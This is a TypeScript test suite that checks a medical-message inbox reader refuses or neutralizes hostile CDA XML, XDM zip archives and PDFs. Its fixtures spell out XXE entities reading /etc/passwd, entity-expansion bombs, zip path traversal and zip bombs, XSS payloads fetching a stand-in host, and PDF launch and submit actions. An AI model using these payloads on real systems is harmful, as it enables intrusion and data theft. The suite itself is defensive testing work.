import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { readMessage } from '../../../src/main/inbox/readMessage';
import { clinicalDocumentSchema } from '../../../src/shared/documents/clinicalDocument';
import { limits } from '../../../src/shared/limits';
import { cdaOf, metadataOf, xdmOf, zipOf } from '../xdm/zipOf';

const MATRICULE = '286033523801253';
const good = cdaOf('1.2.3', MATRICULE);
const utf8 = (text: string) => new TextEncoder().encode(text);
const cda = (inside: string, before = '', root = 'ClinicalDocument xmlns="urn:hl7-org:v3"') =>
  utf8(`${before}<${root}>${inside}</${root.split(' ')[0]}>`);
const section = (text: string, title = 'T') =>
  cda(
    `<title>${title}</title><component><structuredBody><component><section><title>${title}</title><text>${text}</text></section></component></structuredBody></component>`,
  );

const attached = (bytes: Uint8Array, name = 'piece') =>
  Buffer.from(
    `--limite\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n`,
  );
const message = (...pieces: Uint8Array[]) =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from(
        'From: x <x@y.mssante.fr>\r\nSubject: essai\r\nContent-Type: multipart/mixed; boundary=limite\r\n\r\n',
      ),
      ...pieces.map((p) => attached(p)),
      Buffer.from('--limite--\r\n'),
    ]),
  );
async function read(bytes: Uint8Array) {
  const result = await readMessage(bytes);
  if (!result.ok) throw new Error(result.error.code);
  return result.value;
}

/** What is sent beside an honest document is refused with its reason and its bytes; the honest one is read. */
async function refused(hostile: Uint8Array): Promise<string> {
  const { documents, unreadable } = await read(message(hostile, good));
  expect(documents.map((d) => d.document.documentId)).toEqual(['1.2.3']);
  expect(unreadable).toHaveLength(1);
  const [{ failure, bytes }] = unreadable as [(typeof unreadable)[number]];
  expect(Buffer.compare(bytes, hostile)).toBe(0);
  expect(failure.message).not.toBe('');
  expect(failure.action).not.toBe('');
  return failure.code;
}

describe('E-REC-08 hostile XML in a message is refused with its reason, its bytes kept, and the rest is read', () => {
  const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
    '',
  );
  test.each([
    ['a DOCTYPE', cda('', '<!DOCTYPE ClinicalDocument>'), 'xml-doctype'],
    ['a billion laughs', cda('&l9;', `<!DOCTYPE a [<!ENTITY l0 "ha">${laughs}]>`), 'xml-doctype'],
    ['a quadratic entity', cda('&a;'.repeat(9999), `<!DOCTYPE a [<!ENTITY a "${'a'.repeat(9999)}">]>`), 'xml-doctype'], // biome-ignore format: a table
    ['a file by entity', cda('&x;', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), 'xml-doctype'],
    ['an address by parameter entity', cda('', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x.test/">%x;]>'), 'xml-doctype'], // biome-ignore format: a table
    ['depth', cda('<a>'.repeat(limits.xmlDepth) + '</a>'.repeat(limits.xmlDepth)), 'xml-too-big'],
    ['attributes', cda(`<a ${Array.from({ length: 65 }, (_, i) => `a${i}=""`).join(' ')}/>`), 'xml-too-big'],
    ['a long attribute', cda(`<a b="${'x'.repeat(limits.attributeBytes + 1)}"/>`), 'xml-too-big'],
    ['the same attribute twice', cda('<a b="" b=""/>'), 'xml-malformed'],
    ['an unknown entity', cda('<title>&eacute;</title>'), 'xml-malformed'],
    ['a character that XML forbids', cda('<title>\u0000</title>'), 'xml-malformed'],
    ['such a character by its number', cda('<title>&#0;</title>'), 'xml-malformed'],
    ['half a pair', cda('<title>&#xD800;</title>'), 'xml-malformed'],
    ['bytes that are not the announced UTF-8', Uint8Array.from([...cda('<title>').slice(0, -20), 0xe9, 0x20]), 'xml-encoding'], // biome-ignore format: a table
    ['an unknown encoding', cda('', '<?xml version="1.0" encoding="UTF-7"?>'), 'xml-encoding'],
    ['two roots', utf8('<ClinicalDocument xmlns="urn:hl7-org:v3"/><ClinicalDocument/>'), 'xml-malformed'],
    ['an unclosed comment', cda('<!-- '), 'xml-malformed'],
  ])('%s', async (_, hostile, code) => expect(await refused(hostile)).toBe(code));

  test.each([
    ['no namespace', cda('<title>x</title>', '', 'ClinicalDocument')],
    ['another namespace', cda('<title>x</title>', '', 'ClinicalDocument xmlns="urn:evil"')],
    ['a prefix that nothing binds', cda('<title>x</title>', '', 'c:ClinicalDocument')],
  ])('a document in %s is no document', async (_, hostile) => {
    expect(await refused(hostile)).toBe('cda-not-a-document');
  });

  test('a patient in a foreign namespace is no patient', async () => {
    const patient = (prefix: string, number: string) =>
      `<${prefix}recordTarget><${prefix}patientRole><${prefix}id root="1.2.250.1.213.1.4.8" extension="${number}"/></${prefix}patientRole></${prefix}recordTarget>`;
    const own = 'ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:e="urn:evil"';
    const hidden = await read(message(cda(patient('e:', MATRICULE), '', own)));
    expect(hidden.documents[0]!.document.patient.ins).toBeNull();
    const both = await read(message(cda(patient('e:', '1') + patient('', MATRICULE), '', own)));
    expect(both.documents[0]!.document.patient.ins?.value).toBe(MATRICULE);
  });

  test('UTF-16 hides no DOCTYPE', async () => {
    const bytes = Buffer.from(`\ufeff<!DOCTYPE a><ClinicalDocument/>`, 'utf16le');
    expect(await refused(new Uint8Array(bytes))).toBe('xml-doctype');
  });
});

describe('E-REC-08 hostile archives in a message', () => {
  const metadata = metadataOf([{ uri: 'A.XML', bytes: good }]);
  const honest = [
    { name: 'IHE_XDM/SUBSET01/A.XML', data: good },
    { name: 'IHE_XDM/SUBSET01/METADATA.XML', data: metadata },
  ];
  test.each([
    ['a path that climbs', [{ name: '../../a.xml', data: good }], 'zip-unsafe'],
    ['an absolute path', [{ name: '/a.xml', data: good }], 'zip-unsafe'],
    ['a drive', [{ name: 'C:\\a.xml', data: good }], 'zip-unsafe'],
    ['a link', [{ name: 'a.xml', data: '/etc/passwd', mode: 0xa1ff }], 'zip-unsafe'],
    ['one name twice', [...honest, honest[0]!], 'zip-duplicate'],
    ['names that differ by case', [...honest, { name: 'ihe_xdm/subset01/a.xml' }], 'zip-duplicate'],
    ['a bomb', [{ name: 'a.xml', data: Buffer.alloc(limits.zipRatioFloorBytes * 2) }], 'zip-too-big'],
    ['a nest of archives and nothing else', [{ name: 'a.zip', data: zipOf(honest) }], 'xdm-empty'],
    ['an encrypted file', [{ name: 'a.xml', data: good, flags: 1 }], 'zip-unsupported'],
    ['hostile metadata', [honest[0]!, { name: honest[1]!.name, data: '<!DOCTYPE x><x/>' }], 'xml-doctype'],
  ])('%s refuses the archive', async (_, members, code) => {
    expect(await refused(zipOf(members))).toBe(code);
  });

  test('archives that are each allowed may not exceed the whole together', async () => {
    const half = zipOf([
      { name: 'a.bin', data: Buffer.alloc(limits.zipInflatedBytes / 2), method: 0 },
      ...honest,
    ]);
    const other = zipOf([
      { name: 'b.bin', data: Buffer.alloc(limits.zipInflatedBytes / 2), method: 0 },
      ...honest,
    ]);
    const { documents, unreadable } = await read(message(half, other));
    expect(documents).toHaveLength(1);
    expect(unreadable.map((u) => u.failure.code)).toEqual(['zip-too-big']);
  }, 30_000);

  test('litter, lower case and two subsets lose no document', async () => {
    const other = cdaOf('1.2.4', MATRICULE);
    const zip = zipOf([
      { name: '__MACOSX/._x', data: 'x' },
      { name: 'IHE_XDM/.DS_Store', data: 'x' },
      { name: 'ihe_xdm/subset01/a.xml', data: good },
      { name: 'ihe_xdm/subset01/metadata.xml', data: metadata },
      { name: 'IHE_XDM/SUBSET02/A.XML', data: other },
      { name: 'IHE_XDM/SUBSET02/METADATA.XML', data: metadataOf([{ uri: 'A.XML', bytes: other }]) },
    ]);
    const { documents } = await read(message(zip));
    expect(documents.map((d) => d.document.documentId)).toEqual(['1.2.3', '1.2.4']);
    expect(documents[0]!.document.warnings.map((w) => w.code)).toContain('xdm-several-subsets');
  });

  test('a document described twice is read once and left to a person', async () => {
    const { documents } = await read(message(xdmOf([{ uri: 'A.XML', bytes: good }], [])));
    expect(documents[0]!.trustworthy).toBe(true);
    const twice = zipOf([honest[0]!, { name: honest[1]!.name, data: metadataOf([{ uri: 'A.XML', bytes: good }, { uri: 'a.xml', bytes: good }]) }]); // biome-ignore format: one thing
    const again = await read(message(twice));
    expect(again.documents).toHaveLength(1);
    expect(again.documents[0]!.trustworthy).toBe(false);
  });

  test('as many descriptions as files are read, one more is refused', async () => {
    const described = (n: number) =>
      zipOf([honest[0]!, { name: honest[1]!.name, data: metadataOf(Array.from({ length: n }, () => ({ uri: 'A.XML', bytes: good }))) }]); // biome-ignore format: one thing
    expect((await read(message(described(limits.zipEntries)))).documents).toHaveLength(1);
    expect(await refused(described(limits.zipEntries + 1))).toBe('zip-too-big');
  });
});

describe('E-REC-08 what is active in a document that opens is dropped, and said', () => {
  const hostile = [
    '<script>fetch("http://piege.test/")</script>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><image href="http://piege.test/"/></svg>',
    '<img src="http://piege.test/"/>',
    '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="http://piege.test/" onerror="x()"/>',
    '<linkHtml href="javascript:x()">a</linkHtml>',
    '<linkHtml href="java&#10;script:x()">a</linkHtml>',
    '<style>@import url(http://piege.test/)</style>',
    '<content style="background:url(http://piege.test/)" onclick="x()">a</content>',
    '<renderMultiMedia referencedObject="http://piege.test/"/>',
    '<table background="http://piege.test/"><tr><td>a</td></tr></table>',
    '<iframe src="http://piege.test/"/>',
    '<object data="http://piege.test/"/>',
  ];
  test.each(hostile)('%s', async (text) => {
    const { documents } = await read(message(section(text)));
    const { document } = documents[0]!;
    expect(clinicalDocumentSchema.safeParse(document).success).toBe(true);
    const kept = JSON.stringify(document.sections);
    expect(kept).not.toMatch(/script|onload|onerror|onclick|background|@import/i);
    // The identifiers of images are only ever compared with those of the document's own pieces.
    if (!text.startsWith('<renderMultiMedia')) expect(kept).not.toContain('piege.test');
  });

  test('markup in names, titles, senders and subjects is words', async () => {
    const words = '<img src=x onerror=alert(1)>';
    const escaped = words.replaceAll('<', '&lt;');
    const bytes = Buffer.concat([
      Buffer.from(
        `From: "${words}" <x@y.fr>\r\nSubject: ${words}\r\nContent-Type: multipart/mixed; boundary=limite\r\n\r\n`,
      ),
      attached(cda(`<title>${escaped}</title><recordTarget><patientRole><patient><name><family qualifier="BR">${escaped}</family></name></patient></patientRole></recordTarget>`), words), // biome-ignore format: one thing
    ]);
    const { from, subject, documents } = await read(new Uint8Array(bytes));
    expect([from, subject, documents[0]!.document.title, documents[0]!.document.patient.birthName]).toEqual([words, words, words, words]); // biome-ignore format: one thing
  });
});

describe('E-REC-08 active PDFs open with a word of warning', () => {
  const pdf = (objects: string) => Buffer.from(`%PDF-1.7\n${objects}\nstartxref\n0\n%%EOF`, 'latin1');
  const packed = deflateSync(Buffer.from('1 0 <</S/JavaScript/JS(app.alert(1))>>')).toString('latin1');
  test.each([
    ['a script', '1 0 obj<</S/JavaScript/JS(x)>>endobj', 'pdf-active'],
    ['a script under a disguised name', '1 0 obj<</S/J#61vaScript>>endobj', 'pdf-active'],
    ['a program to launch', '1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj', 'pdf-active'],
    [
      'a script in an object stream',
      `1 0 obj<</Type/ObjStm/N 1/First 4>>stream\n${packed}\nendstream`,
      'pdf-active',
    ],
    ['a file inside', '1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj', 'pdf-files'],
    [
      'an address called at opening',
      '1 0 obj<</OpenAction<</S/URI/URI(http://piege.test/)>>>>endobj',
      'pdf-active',
    ],
    ['a form sent away', '1 0 obj<</AA<</O<</S/SubmitForm/F(http://piege.test/)>>>>>>endobj', 'pdf-active'],
  ])('%s', async (_, objects, code) => {
    const { documents } = await read(message(pdf(objects)));
    expect(documents[0]!.document.warnings.map((w) => w.code)).toContain(code);
  });
});

describe('E-REC-08 what is large', () => {
  test('a document lists as many attachments as the limit and says when there are more', async () => {
    const pieces = (n: number) =>
      cda(
        `<component><structuredBody>${'<value representation="B64">AA==</value>'.repeat(n)}</structuredBody></component>`,
      );
    const codes = async (n: number) => {
      const { documents } = await read(message(pieces(n)));
      expect(documents[0]!.attachments).toHaveLength(limits.attachments);
      return documents[0]!.document.warnings.map((w) => w.code);
    };
    expect(await codes(limits.attachments)).not.toContain('too-many-attachments');
    expect(await codes(limits.attachments + 1)).toContain('too-many-attachments');
  });

  test('a message of the largest size is read, its small document too; a larger one is refused', async () => {
    const tail = Buffer.concat([Buffer.from('\r\n'), attached(good), Buffer.from('--limite--\r\n')]);
    const head = Buffer.from('Subject: x\r\nContent-Type: multipart/mixed; boundary=limite\r\n\r\n--limite\r\nContent-Type: application/octet-stream; name=x\r\n\r\n'); // biome-ignore format: one thing
    const flood = (size: number) =>
      new Uint8Array(Buffer.concat([head, Buffer.alloc(size - head.length - tail.length, 'x'), tail]));
    expect((await read(flood(limits.messageBytes))).documents).toHaveLength(1);
    const beyond = await readMessage(flood(limits.messageBytes + 1));
    expect(!beyond.ok && beyond.error.code).toBe('mail-too-big');
  }, 30_000);
});
